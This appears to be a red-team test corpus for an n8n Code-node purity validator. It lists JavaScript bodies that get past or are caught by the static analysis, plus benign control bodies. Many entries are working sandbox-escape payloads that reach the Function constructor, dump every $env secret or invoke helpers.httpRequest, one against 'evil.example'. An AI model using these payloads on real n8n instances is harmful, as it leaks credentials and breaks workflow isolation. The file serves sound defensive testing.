// Round 19 of the code-purity red team: bodies of an n8n Code node, written black-box against
// analyzeSource() (src/validate/purity) without reading the analysis, its README or the earlier rounds.
// Every entry was checked by the run-time oracle (support/n8n-sandbox.ts, runLikeN8n) on Node 20:
// ROUND19_BYPASSES and ROUND19_CAUGHT obtain a capability at run time (bypasses pass the analysis,
// caught ones are reported); ROUND19_FALSE_POSITIVES and ROUND19_PURE are everyday bodies that obtain
// nothing and throw nothing (false positives are reported anyway, pure ones pass).
import type { RoundEntry } from './red-team-round.js';

export interface Round19Entry extends RoundEntry { cls: string; why: string }
export interface Round19FalsePositive extends RoundEntry { why: string }
export type Round19Pure = RoundEntry;

/** The oracle obtains a capability; analyzeSource() reports nothing. */
export const ROUND19_BYPASSES: Round19Entry[] = [
  {
    id: "unknown-key-return/json-key-arrow",
    cls: "unknown-key-return",
    code: "const k = $json.key; return [{json:{g: (() => 0)[k]}}]",
    why: "Item 0's `key` field is 'constructor', so `(() => 0)[$json.key]` is the sandbox Function; a run-time key's value is only checked when called, not when returned.",
  },
  {
    id: "unknown-key-return/joined-key",
    cls: "unknown-key-return",
    code: "const k = [\"con\",\"struc\",\"tor\"].join(\"\"); return [{json:{g: (() => 0)[k]}}]",
    why: "A key built by Array.prototype.join is not folded, so the sandbox Function it reads is treated as an unknown-key value that may be returned freely.",
  },
  {
    id: "unknown-key-return/joined-key-inline",
    cls: "unknown-key-return",
    code: "return [{json:{g: (() => 0)[[\"con\",\"structor\"].join(\"\")]}}]",
    why: "The same read with the joined key inline returns the sandbox Function to n8n unreported.",
  },
  {
    id: "unknown-key-return/beside-json",
    cls: "unknown-key-return",
    code: "const k = $json.key; const F = (() => 0)[k]; return [{json:{}, F}]",
    why: "The unknown-key Function parked beside `json` in the returned item is walked by n8n and not reported.",
  },
  {
    id: "unknown-key-return/function-expr",
    cls: "unknown-key-return",
    code: "const k = $json.key; return [{json:{g: (function(){})[k]}}]",
    why: "A function expression read with the data key gives the sandbox Function, returned unreported.",
  },
  {
    id: "unknown-key-return/class",
    cls: "unknown-key-return",
    code: "const k = $json.key; return [{json:{g: (class {})[k]}}]",
    why: "A class's `constructor` via a run-time key is the sandbox Function, returned unreported.",
  },
  {
    id: "unknown-key-return/builtin-fn",
    cls: "unknown-key-return",
    code: "const k = $json.key; return [{json:{g: Math.max[k]}}]",
    why: "A built-in function read with the data key gives the sandbox Function, returned unreported.",
  },
  {
    id: "unknown-key-return/declared-fn",
    cls: "unknown-key-return",
    code: "const k = $json.key; function f(){} return [{json:{g: f[k]}}]",
    why: "A function declaration's unknown-key property is the sandbox Function, returned unreported.",
  },
  {
    id: "unknown-key-return/double-constructor",
    cls: "unknown-key-return",
    code: "const k = [\"con\",\"str\",\"uct\",\"or\"].join(\"\"); const F = (function(){})[k][k]; return [{json:{g: F}}]",
    why: "Reading the unknown key twice (Function.constructor is Function) still returns the sandbox Function unreported.",
  },
  {
    id: "unknown-key-return/object-ctor-ctor",
    cls: "unknown-key-return",
    code: "const k = [\"con\",\"str\",\"uct\",\"or\"].join(\"\"); return [{json:{g: ({})[k][k]}}]",
    why: "An object literal's `constructor.constructor` through a joined key is the sandbox Function, returned unreported.",
  },
  {
    id: "unknown-key-return/as-prototype",
    cls: "unknown-key-return",
    code: "const F = (function(){})[[\"con\",\"str\",\"uct\",\"or\"].join(\"\")]; return [Object.create(F)]",
    why: "Object.create with the unknown-key Function returns an item whose prototype is the sandbox Function, unreported.",
  },
  {
    id: "env-enumeration/object-keys",
    cls: "env-enumeration",
    code: "return [{json:{g: Object.keys($env)}}]",
    why: "Object.keys on the $env proxy reads every variable (its getOwnPropertyDescriptor trap) and returns their names; the analysis sees no property read.",
  },
  {
    id: "env-enumeration/hasown",
    cls: "env-enumeration",
    code: "return [{json:{g: Object.hasOwn($env, \"DB_PASSWORD\")}}]",
    why: "Object.hasOwn probes $env for a variable through [[GetOwnProperty]], which the analysis does not count as reading $env.",
  },
  {
    id: "env-enumeration/property-is-enumerable",
    cls: "env-enumeration",
    code: "return [{json:{g: Object.prototype.propertyIsEnumerable.call($env, \"DB_PASSWORD\")}}]",
    why: "propertyIsEnumerable.call probes a named variable of $env unreported.",
  },
  {
    id: "env-enumeration/has-own-property",
    cls: "env-enumeration",
    code: "return [{json:{g: Object.prototype.hasOwnProperty.call($env, \"DB_PASSWORD\")}}]",
    why: "hasOwnProperty.call probes a named variable of $env unreported.",
  },
  {
    id: "env-enumeration/entries-length",
    cls: "env-enumeration",
    code: "return [{json:{g: Object.entries($env).length}}]",
    why: "Object.entries reads every value of $env; only a count is returned, and nothing is reported.",
  },
  {
    id: "env-enumeration/object-entries",
    cls: "env-enumeration",
    code: "return [{json:{g: Object.entries($env)}}]",
    why: "Object.entries($env) returns every secret to n8n; the analysis models $env as having no enumerable properties.",
  },
  {
    id: "env-enumeration/object-values",
    cls: "env-enumeration",
    code: "return [{json:{g: Object.values($env)}}]",
    why: "Object.values($env) returns every secret unreported.",
  },
  {
    id: "env-enumeration/object-assign",
    cls: "env-enumeration",
    code: "return [{json:{g: Object.assign({}, $env)}}]",
    why: "Object.assign copies every secret of $env into a plain object that is returned unreported.",
  },
  {
    id: "env-enumeration/object-spread",
    cls: "env-enumeration",
    code: "return [{json:{g: ({ ...$env })}}]",
    why: "Object spread copies every secret of $env into the returned item unreported.",
  },
  {
    id: "env-enumeration/fromentries-entries",
    cls: "env-enumeration",
    code: "return [{json:{g: Object.fromEntries(Object.entries($env))}}]",
    why: "A fromEntries/entries round trip copies $env unreported.",
  },
  {
    id: "env-enumeration/for-in-copy",
    cls: "env-enumeration",
    code: "const out = {}; for (const k in $env) out[k] = $env[k]; return [{json:{g: out}}]",
    why: "A for-in over $env with `$env[k]` reads is not reported: the loop key is taken to range over no keys of $env.",
  },
  {
    id: "env-enumeration/for-in-names",
    cls: "env-enumeration",
    code: "const ks = []; for (const k in $env) ks.push(k); return [{json:{g: ks}}]",
    why: "for-in over $env enumerates (and, through the proxy, reads) every variable unreported.",
  },
  {
    id: "env-enumeration/for-in-last-value",
    cls: "env-enumeration",
    code: "let r; for (const k in $env) r = $env[k]; return [{json:{g: r}}]",
    why: "The for-in key used to index $env returns a secret unreported.",
  },
  {
    id: "capability-fn-return/helpers-httpRequest",
    cls: "capability-fn-return",
    code: "return [{json:{g: helpers.httpRequest}}]",
    why: "Returning the helpers.httpRequest function itself to n8n is not reported (only calling it is).",
  },
  {
    id: "capability-fn-return/evaluate-expression",
    cls: "capability-fn-return",
    code: "return [{json:{g: $evaluateExpression}}]",
    why: "Returning $evaluateExpression to n8n is not reported.",
  },
  {
    id: "capability-fn-return/helpers-joined-key",
    cls: "capability-fn-return",
    code: "const k = [\"http\",\"Request\"].join(\"\"); return [{json:{g: helpers[k]}}]",
    why: "A helpers function read by a run-time key and returned is not reported.",
  },
  {
    id: "capability-fn-return/object-values-helpers",
    cls: "capability-fn-return",
    code: "return [{json:{g: Object.values(helpers)}}]",
    why: "Object.values(helpers) returns every helpers function to n8n unreported.",
  },
  {
    id: "host-coercion/static-data-key",
    cls: "host-coercion",
    code: "const h = helpers.httpRequest; const o = { toString: h, valueOf: h }; try { $getWorkflowStaticData(o) } catch {} return []",
    why: "$getWorkflowStaticData (a host function) turns its argument into a property key, so it calls the object's toString, here helpers.httpRequest; the analysis has no conversion summary for it.",
  },
  {
    id: "host-coercion/static-data-key-uncaught",
    cls: "host-coercion",
    code: "const h = helpers.httpRequest; $getWorkflowStaticData({ toString: h, valueOf: h }); return []",
    why: "The same key conversion without a try: httpRequest is called before the conversion throws (its promise is not a primitive).",
  },
  {
    id: "host-coercion/settimeout-delay",
    cls: "host-coercion",
    code: "const h = helpers.httpRequest; const o = { toString: h, valueOf: h }; try { setTimeout(() => {}, o) } catch {} return []",
    why: "Node's setTimeout coerces the delay with `after *= 1`, calling the object's valueOf (helpers.httpRequest); the analysis models the callback but not the delay's conversion.",
  },
  {
    id: "env-enumeration/item-proxy-for-in",
    cls: "env-enumeration",
    code: "const p = $item(0); let e; for (const k in p) if (k.endsWith(\"env\")) e = p[k]; return [{json:{g: Object.entries(e)}}]",
    why: "$env picked out of $item(0)'s keys by for-in, then Object.entries returns its secrets unreported.",
  },
];

/** The oracle obtains a capability; analyzeSource() reports it. */
export const ROUND19_CAUGHT: Round19Entry[] = [
  {
    id: "caught/globalThis",
    cls: "direct-global",
    code: "return globalThis",
    why: "Returning globalThis.",
  },
  {
    id: "caught/this-array",
    cls: "sloppy-this",
    code: "return [this]",
    why: "The wrapper's sloppy `this` is the global object.",
  },
  {
    id: "caught/host-defineProperty-getter",
    cls: "prototype-accessor",
    code: "const O = $json.constructor; O.defineProperty(Object.prototype, \"zzz\", {get: Object.prototype.valueOf, configurable: true}); return [{json:{g: zzz}}]",
    why: "The host realm's Object.defineProperty puts valueOf as a getter on Object.prototype; a free identifier lookup then calls it on the global object.",
  },
  {
    id: "caught/defineGetter",
    cls: "prototype-accessor",
    code: "Object.prototype.__defineGetter__(\"zzz\", Object.prototype.valueOf); return [{json:{g: zzz}}]",
    why: "__defineGetter__ installs valueOf as a global-chain getter.",
  },
  {
    id: "caught/super-unbound",
    cls: "super-this",
    code: "const o = { m() { return super.valueOf() } }; const f = o.m; return [{json:{g: f()}}]",
    why: "super.valueOf() in a sloppy method called unbound returns the global object without `this`.",
  },
  {
    id: "caught/super-map",
    cls: "super-this",
    code: "const o = { m() { return super.valueOf() } }; return [1].map(o.m).map(g => ({json:{g}}))",
    why: "The same super method as a map callback.",
  },
  {
    id: "caught/super-then",
    cls: "super-this",
    code: "const o = { m() { return super.valueOf() } }; const g = await Promise.resolve(1).then(o.m); return [{json:{g}}]",
    why: "The same super method as a then callback.",
  },
  {
    id: "caught/weakref",
    cls: "builtin-state",
    code: "const g = globalThis; const w = new WeakRef(g); return [{json:{g: w.deref()}}]",
    why: "Global parked in a WeakRef.",
  },
  {
    id: "caught/error-cause",
    cls: "builtin-state",
    code: "const g = globalThis; const e = new Error(\"x\", {cause: g}); return [{json:{g: e.cause}}]",
    why: "Global parked as an Error cause.",
  },
  {
    id: "caught/aggregate",
    cls: "builtin-state",
    code: "const g = globalThis; const e = new AggregateError([g]); return [{json:{g: e.errors[0]}}]",
    why: "Global parked in AggregateError.errors.",
  },
  {
    id: "caught/any-reject",
    cls: "builtin-state",
    code: "const g = globalThis; let r; try { await Promise.any([Promise.reject(g)]) } catch (e) { r = e.errors[0] } return [{json:{g: r}}]",
    why: "Global through Promise.any rejection.",
  },
  {
    id: "caught/allsettled",
    cls: "builtin-state",
    code: "const g = globalThis; const [s] = await Promise.allSettled([Promise.reject(g)]); return [{json:{g: s.reason}}]",
    why: "Global through allSettled reason.",
  },
  {
    id: "caught/gen-next",
    cls: "generator-protocol",
    code: "const g = globalThis; function* f(){ const x = yield 1; yield x } const it = f(); it.next(); return [{json:{g: it.next(g).value}}]",
    why: "Global sent into a generator by next().",
  },
  {
    id: "caught/gen-throw",
    cls: "generator-protocol",
    code: "const g = globalThis; function* f(){ try { yield 1 } catch (x) { yield x } } const it = f(); it.next(); return [{json:{g: it.throw(g).value}}]",
    why: "Global thrown into a generator.",
  },
  {
    id: "caught/gen-return",
    cls: "generator-protocol",
    code: "const g = globalThis; function* f(){ yield 1 } const it = f(); it.next(); return [{json:{g: it.return(g).value}}]",
    why: "Global through generator return().",
  },
  {
    id: "caught/map-values",
    cls: "builtin-state",
    code: "const g = globalThis; const m = new Map([[1, g]]); const it = m.values(); return [{json:{g: it.next().value}}]",
    why: "Global through a Map iterator.",
  },
  {
    id: "caught/reduce-init",
    cls: "builtin-state",
    code: "const g = globalThis; return [{json:{g: [1,2].reduce((a) => a, g)}}]",
    why: "Global as reduce initial value.",
  },
  {
    id: "caught/fromentries",
    cls: "builtin-state",
    code: "const g = globalThis; return [{json:{g: Object.fromEntries([[\"k\", g]]).k}}]",
    why: "Global through fromEntries.",
  },
  {
    id: "caught/array-with",
    cls: "builtin-state",
    code: "const g = globalThis; return [{json:{g: [1].with(0, g)[0]}}]",
    why: "Global through Array.prototype.with.",
  },
  {
    id: "caught/tospliced",
    cls: "builtin-state",
    code: "const g = globalThis; return [{json:{g: [1].toSpliced(0, 1, g)[0]}}]",
    why: "Global through toSpliced.",
  },
  {
    id: "caught/flat",
    cls: "builtin-state",
    code: "const g = globalThis; return [{json:{g: [[[g]]].flat(2)[0]}}]",
    why: "Global through flat.",
  },
  {
    id: "caught/copywithin",
    cls: "builtin-state",
    code: "const g = globalThis; return [{json:{g: [0, g].copyWithin(0, 1)[0]}}]",
    why: "Global through copyWithin.",
  },
  {
    id: "caught/findlast",
    cls: "builtin-state",
    code: "const g = globalThis; return [{json:{g: [g].findLast(() => true)}}]",
    why: "Global through findLast.",
  },
  {
    id: "caught/async-gen-next",
    cls: "generator-protocol",
    code: "const g = globalThis; async function* f(){ const x = yield 1; yield x } const it = f(); await it.next(); return [{json:{g: (await it.next(g)).value}}]",
    why: "Global sent into an async generator.",
  },
  {
    id: "caught/json-reviver-global",
    cls: "builtin-state",
    code: "const g = globalThis; return [{json:{g: JSON.parse(\"[1]\", (k, v) => k === \"0\" ? g : v)[0]}}]",
    why: "Global through a reviver result.",
  },
  {
    id: "caught/replace-callback",
    cls: "builtin-state",
    code: "const g = globalThis; let r; \"a\".replace(\"a\", () => { r = g; return \"\" }); return [{json:{g: r}}]",
    why: "Global assigned inside a replace callback.",
  },
  {
    id: "caught/array-from-map",
    cls: "builtin-state",
    code: "const g = globalThis; return [{json:{g: Array.from({length: 1}, () => g)[0]}}]",
    why: "Global through Array.from mapFn.",
  },
  {
    id: "caught/ret-ctor",
    cls: "constructor-return",
    code: "return [{json:{g: (() => 0).constructor}}]",
    why: "Returning the sandbox Function by a literal key.",
  },
  {
    id: "caught/const-key-ctor",
    cls: "constructor-return",
    code: "const k = \"constructor\"; return [{json:{g: (() => 0)[k]}}]",
    why: "A constant key is folded.",
  },
  {
    id: "caught/ret-eval",
    cls: "constructor-return",
    code: "return [{json:{g: eval}}]",
    why: "Returning eval.",
  },
  {
    id: "caught/ukey-generator",
    cls: "constructor-return",
    code: "const k = $json.key; return [{json:{g: (function*(){})[k]}}]",
    why: "Unknown key on a generator function (GeneratorFunction) is reported on return.",
  },
  {
    id: "caught/ukey-async-arrow",
    cls: "constructor-return",
    code: "const k = $json.key; return [{json:{g: (async () => 0)[k]}}]",
    why: "Unknown key on an async arrow (AsyncFunction) is reported on return.",
  },
  {
    id: "caught/ukey-async-gen",
    cls: "constructor-return",
    code: "const k = $json.key; return [{json:{g: (async function*(){})[k]}}]",
    why: "Unknown key on an async generator is reported on return.",
  },
  {
    id: "caught/ukey-new",
    cls: "unknown-key-call",
    code: "const k = $json.key; const F = (() => 0)[k]; return [{json:{g: new F(\"return this\")()}}]",
    why: "new on the unknown-key Function.",
  },
  {
    id: "caught/ukey-tag",
    cls: "unknown-key-call",
    code: "const k = $json.key; const F = (() => 0)[k]; return [{json:{g: F`return this`()}}]",
    why: "Tagged template call of the unknown-key Function.",
  },
  {
    id: "caught/ukey-then",
    cls: "unknown-key-call",
    code: "const k = $json.key; const F = (() => 0)[k]; const f = await Promise.resolve(\"return this\").then(F); return [{json:{g: f()}}]",
    why: "then() calls the unknown-key Function.",
  },
  {
    id: "caught/ukey-json-reviver",
    cls: "unknown-key-call",
    code: "const k = $json.key; const F = (() => 0)[k]; const f = JSON.parse('\"return this\"', F); return [{json:{g: f()}}]",
    why: "JSON.parse calls the Function as a reviver with ('', 'return this').",
  },
  {
    id: "caught/global-joined-key",
    cls: "unknown-key-global",
    code: "const g = globalThis; return [{json:{g: g[[\"glo\",\"bal\"].join(\"\")]}}]",
    why: "Unknown key on the global object.",
  },
  {
    id: "caught/fn-desc",
    cls: "constructor-return",
    code: "const d = Object.getOwnPropertyDescriptor(Function.prototype, [\"con\",\"str\",\"uct\",\"or\"].join(\"\")); return [{json:{g: d.value}}]",
    why: "getOwnPropertyDescriptor of Function.prototype.",
  },
  {
    id: "caught/map-get-call",
    cls: "sloppy-this",
    code: "const o = { m() { return this } }; const mm = new Map([[\"f\", o.m]]); return [{json:{g: mm.get(\"f\")()}}]",
    why: "A sloppy method parked in a Map and called unbound.",
  },
  {
    id: "caught/weakref-call",
    cls: "sloppy-this",
    code: "const o = { m() { return this } }; const w = new WeakRef(o.m); return [{json:{g: w.deref()()}}]",
    why: "A sloppy method parked in a WeakRef and called unbound.",
  },
  {
    id: "caught/gen-yield-call",
    cls: "sloppy-this",
    code: "function t() { return this } function* g() { yield t } for (const f of g()) return [{json:{g: f()}}]",
    why: "A sloppy function yielded and called.",
  },
  {
    id: "caught/destructured-call",
    cls: "sloppy-this",
    code: "const o = { m() { return this } }; const a = [o.m]; const [f] = a; return [{json:{g: f()}}]",
    why: "A sloppy method destructured and called.",
  },
  {
    id: "caught/item-env",
    cls: "env",
    code: "return [{json:{g: $item(0).$env.DB_PASSWORD}}]",
    why: "$item(0) carries $env.",
  },
  {
    id: "caught/env-stringify",
    cls: "env",
    code: "return [{json:{g: JSON.stringify($env).length}}]",
    why: "JSON.stringify of $env.",
  },
  {
    id: "caught/env-descriptors",
    cls: "env",
    code: "return [{json:{g: Object.getOwnPropertyDescriptors($env)}}]",
    why: "getOwnPropertyDescriptors of $env.",
  },
  {
    id: "caught/env-rest",
    cls: "env",
    code: "const { ...rest } = $env; return [{json:{g: rest}}]",
    why: "Rest destructuring of $env.",
  },
  {
    id: "caught/env-direct",
    cls: "env",
    code: "return [{json:{g: $env.DB_PASSWORD}}]",
    why: "A direct $env read.",
  },
  {
    id: "caught/env-const-key",
    cls: "env",
    code: "const k = \"DB_PASSWORD\"; return [{json:{g: $env[k]}}]",
    why: "$env read by a constant key.",
  },
  {
    id: "caught/env-joined-key",
    cls: "env",
    code: "const k = [\"DB_\",\"PASSWORD\"].join(\"\"); return [{json:{g: $env[k]}}]",
    why: "$env read by a run-time key.",
  },
  {
    id: "caught/env-alias",
    cls: "env",
    code: "const e = $env; return [{json:{g: e.DB_PASSWORD}}]",
    why: "$env through an alias.",
  },
  {
    id: "caught/env-return",
    cls: "env",
    code: "return [{json:{g: $env}}]",
    why: "Returning $env.",
  },
  {
    id: "caught/env-forof-keys",
    cls: "env",
    code: "let r; for (const k of Object.keys($env)) r = $env[k]; return [{json:{g: r}}]",
    why: "for-of over Object.keys($env) with a read.",
  },
  {
    id: "caught/env-forin-other-object",
    cls: "env",
    code: "let r; for (const k in {DB_PASSWORD: 1}) r = $env[k]; return [{json:{g: r}}]",
    why: "$env read with a key from another for-in.",
  },
  {
    id: "caught/forin-body-global",
    cls: "builtin-state",
    code: "let r; for (const k in {a: 1}) r = globalThis; return [{json:{g: r}}]",
    why: "Global assigned inside a for-in body.",
  },
  {
    id: "caught/values-global",
    cls: "global-enumeration",
    code: "return [{json:{g: Object.values(globalThis)}}]",
    why: "Object.values of the global object.",
  },
  {
    id: "caught/forin-global-copy",
    cls: "global-enumeration",
    code: "const out = {}; for (const k in globalThis) out[k] = globalThis[k]; return [{json:{g: out}}]",
    why: "for-in copy of the global object (analysis takes ~0.7 s).",
  },
  {
    id: "caught/assign-global",
    cls: "global-enumeration",
    code: "return [{json:{g: Object.assign({}, globalThis).global}}]",
    why: "Object.assign copy of the global object.",
  },
  {
    id: "caught/call-helpers-values",
    cls: "helpers-call",
    code: "for (const f of Object.values(helpers)) { try { await f(\"http://x\") } catch {} } return []",
    why: "Calling every helpers function.",
  },
  {
    id: "caught/call-helpers-forin",
    cls: "helpers-call",
    code: "for (const k in helpers) { try { await helpers[k](\"http://x\") } catch {} } return []",
    why: "Calling helpers by for-in key.",
  },
  {
    id: "caught/return-require",
    cls: "capability-return",
    code: "return [{json:{g: require}}]",
    why: "Returning require.",
  },
  {
    id: "caught/return-helpers",
    cls: "capability-return",
    code: "return [{json:{g: helpers}}]",
    why: "Returning helpers.",
  },
  {
    id: "caught/item-values",
    cls: "proxy-enumeration",
    code: "return [{json:{g: Object.values($item(0))}}]",
    why: "Values of $item(0) include $env.",
  },
  {
    id: "caught/item-forin-call",
    cls: "proxy-enumeration",
    code: "const p = $item(0); let r = 0; for (const k in p) if (k.endsWith(\"Expression\")) { try { p[k](\"{{ 1 }}\") } catch { r++ } } return [{json:{g: r}}]",
    why: "Calling $evaluateExpression found by for-in.",
  },
  {
    id: "caught/evalexpr-direct",
    cls: "evaluate-expression",
    code: "try { $evaluateExpression(\"{{ 1 }}\") } catch {} return []",
    why: "A direct $evaluateExpression call.",
  },
  {
    id: "caught/hoststore-json-values",
    cls: "host-store",
    code: "$json.x = globalThis; return [{json:{g: Object.values(items[0].json)}}]",
    why: "Global parked in $json and read back by Object.values.",
  },
  {
    id: "caught/hoststore-static-values",
    cls: "host-store",
    code: "const sd = $getWorkflowStaticData(\"global\"); sd.g = globalThis; return [{json:{g: Object.values(sd)}}]",
    why: "Global parked in static data.",
  },
  {
    id: "caught/hoststore-static-read",
    cls: "host-store",
    code: "const sd = $getWorkflowStaticData(\"global\"); sd.g = globalThis; return [{json:{g: $getWorkflowStaticData(\"global\").g}}]",
    why: "Global parked in static data, read back by a second call.",
  },
  {
    id: "caught/hoststore-input-first",
    cls: "host-store",
    code: "$json.x = globalThis; return [{json:{g: $input.first().json.x}}]",
    why: "Global parked in $json, read through $input.first().",
  },
  {
    id: "caught/hoststore-items-return",
    cls: "host-store",
    code: "items[0].json.x = globalThis; return items",
    why: "Global parked in items returned in place.",
  },
  {
    id: "caught/hoststore-node-all",
    cls: "host-store",
    code: "$input.all()[1].json.x = globalThis; return [{json:{g: $(\"Webhook\").all()[1].json.x}}]",
    why: "Global parked through $input.all(), read through $().all().",
  },
  {
    id: "caught/regexp-test-exec",
    cls: "implicit-call",
    code: "const h = helpers.httpRequest; try { RegExp.prototype.test.call({ exec: h }, \"http://evil.example/\") } catch {} return []",
    why: "RegExp.prototype.test calls a custom exec.",
  },
  {
    id: "caught/date-tojson-toISOString",
    cls: "implicit-call",
    code: "const h = helpers.httpRequest; JSON.stringify({ d: { valueOf: () => 1, toISOString: h, toJSON: Date.prototype.toJSON } }); return []",
    why: "Date.prototype.toJSON calls toISOString.",
  },
  {
    id: "caught/hasinstance",
    cls: "implicit-call",
    code: "const h = helpers.httpRequest; try { ({}) instanceof { [Symbol.hasInstance]: h } } catch {} return []",
    why: "instanceof calls Symbol.hasInstance.",
  },
  {
    id: "caught/tojson",
    cls: "implicit-call",
    code: "const h = helpers.httpRequest; JSON.stringify([{ toJSON: h }]); return []",
    why: "JSON.stringify calls toJSON.",
  },
  {
    id: "caught/array-join-tostring",
    cls: "implicit-call",
    code: "const h = helpers.httpRequest; try { [{ toString: h }].join(\",\") } catch {} return []",
    why: "join calls toString.",
  },
  {
    id: "caught/host-item-index",
    cls: "host-coercion",
    code: "const h = helpers.httpRequest; const o = { toString: h, valueOf: h }; try { $item(o) } catch {} return []",
    why: "$item converts its index.",
  },
  {
    id: "caught/host-textencoder",
    cls: "host-coercion",
    code: "const h = helpers.httpRequest; const o = { toString: h, valueOf: h }; try { new TextEncoder().encode(o) } catch {} return []",
    why: "TextEncoder.encode converts its input.",
  },
  {
    id: "caught/host-btoa",
    cls: "host-coercion",
    code: "const h = helpers.httpRequest; const o = { toString: h, valueOf: h }; try { btoa(o) } catch {} return []",
    why: "btoa converts its input.",
  },
  {
    id: "caught/host-paired-item",
    cls: "host-coercion",
    code: "const h = helpers.httpRequest; const o = { toString: h, valueOf: h }; try { $(\"Webhook\").pairedItem(o) } catch {} return []",
    why: "pairedItem converts its index.",
  },
];

/** Everyday bodies: the oracle obtains nothing (no error), analyzeSource() reports them anyway. */
export const ROUND19_FALSE_POSITIVES: Round19FalsePositive[] = [
];

/** Everyday bodies: the oracle obtains nothing (no error), analyzeSource() reports nothing. */
export const ROUND19_PURE: Round19Pure[] = [
  {
    id: "everyday/group-by-reduce",
    code: "const groups = $input.all().reduce((acc, item) => {\n  const tag = item.json.tags[0] ?? 'none';\n  (acc[tag] ??= []).push(item.json.name);\n  return acc;\n}, {});\nreturn Object.entries(groups).map(([tag, names]) => ({ json: { tag, names, count: names.length } }));",
  },
  {
    id: "everyday/map-items",
    code: "return items.map((item) => ({ json: { id: item.json.id, name: item.json.name.trim(), domain: item.json.email.split('@')[1] } }));",
  },
  {
    id: "everyday/parse-csv",
    code: "const csv = 'id,name,score\\n1,Ada,42\\n2,Alan,7';\nconst [header, ...rows] = csv.split('\\n');\nconst cols = header.split(',');\nreturn rows.map((row) => {\n  const cells = row.split(',');\n  const json = {};\n  cols.forEach((c, i) => { json[c] = isNaN(Number(cells[i])) ? cells[i] : Number(cells[i]); });\n  return { json };\n});",
  },
  {
    id: "everyday/parse-json-string",
    code: "const raw = '{\"orders\":[{\"id\":\"a1\",\"total\":\"19.90\"},{\"id\":\"a2\",\"total\":\"5\"}]}';\nconst data = JSON.parse(raw);\nreturn data.orders.map((o) => ({ json: { id: o.id, total: parseFloat(o.total) } }));",
  },
  {
    id: "everyday/dates-iso-intl",
    code: "const fmt = new Intl.DateTimeFormat('en-GB', { dateStyle: 'medium', timeZone: 'UTC' });\nreturn items.map((item, i) => {\n  const d = new Date(Date.UTC(2025, 0, 1 + i));\n  return { json: { ...item.json, iso: d.toISOString(), pretty: fmt.format(d) } };\n});",
  },
  {
    id: "everyday/class-with-methods",
    code: "class Scorer {\n  constructor(weight) { this.weight = weight; }\n  score(item) { return item.json.score * this.weight; }\n  label(item) { return this.score(item) > 100 ? 'high' : 'low'; }\n}\nconst s = new Scorer(3);\nreturn items.map((item) => ({ json: { name: item.json.name, score: s.score(item), label: s.label(item) } }));",
  },
  {
    id: "everyday/regex-extract",
    code: "const re = /^([^@]+)@(.+)$/;\nreturn items.map((item) => {\n  const m = re.exec(item.json.email);\n  return { json: { user: m ? m[1] : null, host: m ? m[2] : null } };\n});",
  },
  {
    id: "everyday/sort-comparator",
    code: "const sorted = [...items].sort((a, b) => b.json.score - a.json.score || a.json.name.localeCompare(b.json.name));\nreturn sorted.map((item, rank) => ({ json: { rank: rank + 1, name: item.json.name } }));",
  },
  {
    id: "everyday/entries-fromentries",
    code: "return items.map((item) => ({\n  json: Object.fromEntries(Object.entries(item.json).filter(([k]) => k !== 'key').map(([k, v]) => [k.toUpperCase(), typeof v === 'string' ? v.toLowerCase() : v])),\n}));",
  },
  {
    id: "everyday/async-await-map",
    code: "const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));\nconst out = [];\nfor (const item of items) {\n  await sleep(1);\n  out.push({ json: { id: item.json.id, done: true } });\n}\nconst extra = await Promise.all(out.map(async (o) => ({ json: { ...o.json, checked: true } })));\nreturn extra;",
  },
  {
    id: "everyday/each-item-mode",
    code: "const name = $json.name;\nreturn { json: { first: name.split(' ')[0], last: name.split(' ').slice(1).join(' '), index: $itemIndex } };",
    mode: "runOnceForEachItem",
  },
  {
    id: "everyday/dedupe-set",
    code: "const seen = new Set();\nconst out = [];\nfor (const item of $input.all()) {\n  for (const tag of item.json.tags) {\n    if (!seen.has(tag)) { seen.add(tag); out.push({ json: { tag } }); }\n  }\n}\nreturn out;",
  },
  {
    id: "everyday/field-by-param",
    code: "return items.map((item) => ({ json: { value: item.json[item.json.field], field: item.json.field } }));",
  },
  {
    id: "everyday/static-data-counter",
    code: "const data = $getWorkflowStaticData('global');\ndata.runs = (data.runs ?? 0) + 1;\nreturn [{ json: { runs: data.runs, total: items.length } }];",
  },
  {
    id: "everyday/number-format",
    code: "const nf = new Intl.NumberFormat('de-DE', { style: 'currency', currency: 'EUR' });\nreturn items.map((item) => ({ json: { price: nf.format(item.json.score * 1.19), rounded: Math.round(item.json.score * 1.19 * 100) / 100 } }));",
  },
  {
    id: "everyday/buffer-base64",
    code: "return items.map((item) => ({ json: { token: Buffer.from(item.json.email, 'utf8').toString('base64'), b64: btoa(item.json.name) } }));",
  },
  {
    id: "everyday/pick-fields-computed",
    code: "const fields = ['name', 'email', 'score'];\nreturn items.map((item) => ({ json: Object.fromEntries(fields.map((f) => [f, item.json[f]])) }));",
  },
  {
    id: "everyday/lookup-table-hasown",
    code: "const labels = { id: 'Identifier', constructor: 'Builder' };\nreturn items.map((item) => {\n  const k = item.json.key;\n  return { json: { key: k, label: Object.hasOwn(labels, k) ? labels[k] : 'unknown' } };\n});",
  },
  {
    id: "everyday/dispatch-table",
    code: "const ops = {\n  upper: (s) => s.toUpperCase(),\n  lower: (s) => s.toLowerCase(),\n  initials: (s) => s.split(' ').map((w) => w[0]).join(''),\n};\nreturn items.map((item) => ({ json: Object.fromEntries(Object.keys(ops).map((op) => [op, ops[op](item.json.name)])) }));",
  },
  {
    id: "everyday/function-callbacks-for-in",
    code: "function total(list) {\n  let sum = 0;\n  for (const item of list) sum += item.json.score;\n  return sum;\n}\nconst stats = {};\nfor (const key in items[0].json) stats[key] = typeof items[0].json[key];\nreturn [{ json: { total: total(items), stats } }];",
  },
];
